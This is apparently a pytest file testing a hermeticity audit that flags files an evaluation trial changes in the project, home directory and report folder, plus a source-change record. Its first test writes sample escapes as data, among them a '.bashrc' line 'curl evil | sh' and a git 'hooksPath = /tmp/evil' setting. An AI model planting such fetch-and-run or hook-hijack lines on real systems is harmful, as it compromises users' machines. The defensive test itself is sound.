"""The hermeticity audit and the clean-sources record: what a trial must not change."""

from __future__ import annotations

import json
import os
from pathlib import Path

from pytest_atlante.audit import Audit, changed_sources, record_sources


def _layout(tmp_path: Path) -> tuple[Path, Path, Path, Path]:
    project = tmp_path / "project"
    (project / "eval" / "fixtures" / "app").mkdir(parents=True)
    (project / "eval" / "fixtures" / "app" / "README.md").write_text("# app\n")
    (project / ".git" / "objects" / "ab").mkdir(parents=True)
    (project / ".git" / "config").write_text("[core]\n")
    home = tmp_path / "home"
    (home / ".cache").mkdir(parents=True)
    (home / ".bashrc").write_text("# rc\n")
    report = project / ".atlante" / "eval" / "run-1"
    run_temp = tmp_path / "tmp" / "atlante-eval-run-1"
    return project, home, report, run_temp


def test_writes_to_the_project_home_top_and_report_dir_are_escapes(tmp_path: Path) -> None:
    project, home, report, run_temp = _layout(tmp_path)
    audit = Audit.for_run(project, home=home, report_dir=report, run_temp=run_temp)
    started = audit.start()
    (project / "eval" / "fixtures" / "app" / "README.md").write_text("# changed\n")
    (project / "escaped.txt").write_text("x")
    (project / ".git" / "config").write_text("[core]\n\thooksPath = /tmp/evil\n")
    (home / ".bashrc").write_text("curl evil | sh\n")
    (home / "new-file").write_text("x")
    report.mkdir(parents=True)
    (report / "report.json").write_text("{}")
    assert audit.escapes(started) == sorted([
        ".atlante/eval/run-1/report.json", ".git/config", "escaped.txt", "eval/fixtures/app/README.md",
        "~/.bashrc", "~/new-file",
    ])


def test_legitimate_concurrent_activity_is_no_escape(tmp_path: Path) -> None:
    project, home, report, _ = _layout(tmp_path)
    run_temp = project / "tmp" / "atlante-eval-run-1"  # TMPDIR inside the project
    (project / "src").mkdir()
    audit = Audit.for_run(project, home=home, report_dir=report, run_temp=run_temp)
    started = audit.start()
    # Other trials' sandboxes, pytest's and Python's caches, new git objects, the run's report
    # directory being created with another trial's artifacts, inside HOME's directories, a
    # shell's history, and reading files.
    (run_temp / "other-1" / "sandbox").mkdir(parents=True)
    (run_temp / "other-1" / "sandbox" / "f").write_text("x")
    for cache in (".pytest_cache", "src/__pycache__", ".mypy_cache"):
        (project / cache).mkdir(parents=True)
        (project / cache / "x").write_text("x")
    (project / ".git" / "objects" / "ab" / "cdef").write_bytes(b"x")
    (report / "trials" / "other" / "1").mkdir(parents=True)
    (report / "trials" / "other" / "1" / "transcript.jsonl").write_text("{}")
    (home / ".cache" / "pip").mkdir()
    (home / ".bash_history").write_text("ls\n")
    (project / "eval" / "fixtures" / "app" / "README.md").read_text()
    assert audit.escapes(started) == [], audit.escapes(started)


def test_sources_record_survives_json_and_finds_changes_not_touches(tmp_path: Path) -> None:
    fixture = tmp_path / "fixture"
    (fixture / "src").mkdir(parents=True)
    (fixture / "a.txt").write_text("a\n")
    (fixture / "src" / "b.py").write_text("b\n")
    recorded = json.loads(json.dumps(record_sources([fixture])))  # as an xdist worker receives it
    assert changed_sources(fixture, recorded) == []
    os.utime(fixture / "a.txt")  # a touch: same bytes, new fingerprint
    (fixture / "src" / "b.py").write_text("b\n")  # rewritten with the same bytes
    assert changed_sources(fixture, recorded) == []
    (fixture / "a.txt").write_text("A\n")
    (fixture / "src" / "new.py").write_text("")
    (fixture / "src" / "b.py").unlink()
    assert changed_sources(fixture, recorded) == ["a.txt", "src/b.py", "src/new.py"]
    assert changed_sources(tmp_path / "unrecorded", recorded) is None
